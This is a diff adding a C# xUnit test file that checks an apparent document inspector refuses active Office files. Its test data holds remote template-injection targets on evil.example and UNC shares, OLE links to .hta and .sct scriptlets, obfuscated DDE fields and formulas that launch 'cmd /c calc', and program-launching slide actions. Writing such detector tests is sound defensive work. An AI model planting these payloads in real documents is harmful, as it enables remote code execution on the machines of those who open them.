@@ -1,0 +1,96 @@
+using ChatSales.Adapters.Drawing;
+using ChatSales.Core.Conversation;
+using ChatSales.Core.Evidence;
+using ChatSales.Simulators.Files;
+using Shouldly;
+using Xunit;
+
+namespace ChatSales.Core.Tests.Evidence;
+
+/// <summary>Office documents that fetch or run something when they are opened, and those that only show what they are.</summary>
+public sealed class ActiveOfficeTests
+{
+    private const string Xml = "application/xml";
+    private const string Begin = "<w:fldChar w:fldCharType=\"begin\"/>";
+    private readonly Inspection inspection = new(new SkiaPictureReader(), new PdfPigReader());
+
+    [Theory]
+    [InlineData(OfficeFiles.WordMain, "attachedTemplate", "https://evil.example/a.dotm")]
+    [InlineData(OfficeFiles.WordMain, "attachedTemplate", "\\\\evil\\share\\a.dotm")]
+    [InlineData(OfficeFiles.WordMain, "attachedTemplate", "file:///\\\\evil\\share\\a.dotm")]
+    [InlineData(OfficeFiles.WordMain, "attachedTemplate", "file:////evil/share/a.dotm")]
+    [InlineData(OfficeFiles.WordMain, "attachedTemplate", "file://evil/share/a.dotm")]
+    [InlineData(OfficeFiles.WordMain, "attachedTemplate", "http:%2F%2Fevil.example/a.dotm")]
+    [InlineData(OfficeFiles.WordMain, "attachedTemplate", "http://evil.example/a.dotm", false)]
+    [InlineData(OfficeFiles.WordMain, "frame", "http://evil.example/a.htm")]
+    [InlineData(OfficeFiles.WordMain, "subDocument", "\\\\evil\\a.docx")]
+    [InlineData(OfficeFiles.ExcelMain, "oleObject", "http://evil.example/a.hta")]
+    [InlineData(OfficeFiles.PowerPointMain, "oleObject", "script:http://evil.example/a.sct")]
+    public void Those_that_fetch_templates_or_objects_from_elsewhere_are_refused(string main, string relationship, string target, bool external = true) =>
+        WhyNot(OfficeFiles.Related(main, relationship, target, external)).ShouldBe(EvidenceTexts.RemoteTemplate);
+
+    [Theory]
+    [InlineData(OfficeFiles.WordMain, "attachedTemplate", "file:///C:\\Users\\li\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm")]
+    [InlineData(OfficeFiles.WordMain, "attachedTemplate", "file:///Users/li/Library/Templates/Normal.dotm")]
+    [InlineData(OfficeFiles.WordMain, "attachedTemplate", "Normal.dotm")]
+    [InlineData(OfficeFiles.WordMain, "hyperlink", "https://example.com/")]
+    [InlineData(OfficeFiles.WordMain, "image", "https://example.com/a.png")]
+    [InlineData(OfficeFiles.WordMain, "oleObject", "embeddings/oleObject1.bin", false)]
+    [InlineData(OfficeFiles.WordMain, "oleObject", "/word/embeddings/oleObject1.bin", false)]
+    [InlineData(OfficeFiles.ExcelMain, "externalLinkPath", "file:///\\\\server\\prices.xlsx")]
+    [InlineData(OfficeFiles.PowerPointMain, "video", "https://example.com/a.mp4")]
+    public void Links_pictures_and_templates_of_ones_own_are_taken(string main, string relationship, string target, bool external = true) =>
+        inspection.Inspect(OfficeFiles.Related(main, relationship, target, external)).IsRefused.ShouldBeFalse();
+
+    [Theory]
+    [InlineData("<w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"</w:instrText>")]
+    [InlineData("<w:instrText> </w:instrText><w:instrText>D</w:instrText></w:r><w:r><w:instrText>de</w:instrText><w:instrText> cmd</w:instrText>")]
+    [InlineData("<w:instrText>QUOTE 1</w:instrText><w:fldChar w:fldCharType=\"begin\"/><w:instrText><![CDATA[DDE]]> cmd</w:instrText>")]
+    [InlineData("<w:fldSimple w:instr=' DDEAUTO cmd \"/k calc\"'/>")]
+    public void Fields_that_ask_programs_are_refused(string field)
+    {
+        foreach (var name in (string[])["word/header1.xml", "word/header1.txt"])
+        {
+            const string Header = "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml";
+            WhyNot(OfficeFiles.With(OfficeFiles.WordMain, (name, Header, $"<w:hdr xmlns:w=\"w\"><w:r>{Begin}{field}</w:r></w:hdr>"))).ShouldBe(EvidenceTexts.Dde);
+        }
+    }
+
+    [Theory]
+    [InlineData("xl/externalLinks/externalLink1.xml", "<externalLink><ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></externalLink>")]
+    [InlineData("xl/worksheets/sheet1.xml", "<c><f>cmd|'/c calc'!A0</f></c>")]
+    [InlineData("xl/worksheets/sheet1.xml", "<c><f>1+<![CDATA[cmd]]>|'/c calc'!A0</f></c>")]
+    [InlineData("xl/workbook.xml", "<definedName name=\"a\">cmd|'/c calc'!A0</definedName>")]
+    public void Cells_that_ask_programs_are_refused(string part, string content) =>
+        WhyNot(OfficeFiles.With(OfficeFiles.ExcelMain, (part, Xml, content))).ShouldBe(EvidenceTexts.Dde);
+
+    [Fact]
+    public void Other_fields_and_formulas_are_taken()
+    {
+        const string Field = "<w:p xmlns:w=\"w\"><w:fldChar/><w:instrText>HYPERLINK \"https://example.com/dde\"</w:instrText><w:fldChar/><w:t>DDE</w:t><w:fldSimple w:instr=\"PAGE\"/></w:p>";
+        inspection.Inspect(OfficeFiles.With(OfficeFiles.WordMain, ("word/header1.xml", Xml, Field))).IsRefused.ShouldBeFalse();
+        foreach (var formula in (string[])["A1&amp;\"a|b\"", "'a|b'!A1", "T[a|b]", "SUM(A1:A9)"])
+        {
+            inspection.Inspect(OfficeFiles.With(OfficeFiles.ExcelMain, ("xl/sheet1.xml", Xml, $"<c><f>{formula}</f><v>a|b</v></c>"))).IsRefused.ShouldBeFalse();
+        }
+    }
+
+    [Fact]
+    public void Web_pages_as_parts_and_slides_that_start_programs_are_refused()
+    {
+        WhyNot(OfficeFiles.Related(OfficeFiles.WordMain, "aFChunk", "afchunk.dat", external: false)).ShouldBe(EvidenceTexts.WebPagePart);
+        WhyNot(OfficeFiles.With(OfficeFiles.WordMain, ("word/a.bin", "message/rfc822", "MIME-Version: 1.0"))).ShouldBe(EvidenceTexts.WebPagePart);
+        WhyNot(OfficeFiles.With(OfficeFiles.PowerPointMain, ("ppt/slides/slide1.xml", Xml, "<a:hlinkClick xmlns:a=\"a\" action=\"ppaction://program\"/>"))).ShouldBe(EvidenceTexts.Launch);
+        inspection.Inspect(OfficeFiles.With(OfficeFiles.PowerPointMain, ("ppt/slides/slide1.xml", Xml, "<a:hlinkClick xmlns:a=\"a\" action=\"ppaction://hlinksldjump\"/>"))).IsRefused.ShouldBeFalse();
+    }
+
+    [Fact]
+    public void A_drawing_with_a_document_type_is_no_part_that_is_read() =>
+        inspection.Inspect(OfficeFiles.With(OfficeFiles.WordMain, ("word/media/image1.svg", "image/svg+xml", "<!DOCTYPE svg><svg/>"))).IsRefused.ShouldBeFalse();
+
+    [Fact]
+    public void A_document_within_a_document_is_no_better() =>
+        WhyNot(OfficeFiles.Holding("word/embeddings/a.docx", OfficeFiles.Related(OfficeFiles.WordMain, "attachedTemplate", "https://evil.example/"))).ShouldBe(EvidenceTexts.RemoteTemplate);
+
+    private Message? WhyNot(byte[] file) => inspection.Inspect(file).Refusal?.Message;
+}
